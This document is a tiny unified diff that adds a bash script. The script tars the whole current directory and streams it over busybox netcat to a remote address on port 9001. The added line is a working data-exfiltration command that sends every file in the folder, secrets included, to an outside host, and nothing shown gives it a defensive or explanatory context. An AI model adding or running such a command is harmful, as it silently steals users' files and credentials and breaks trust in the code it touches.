@@ -1,0 +1,2 @@
+#!/bin/bash
+tar c . | busybox nc 192.0.2.9 9001
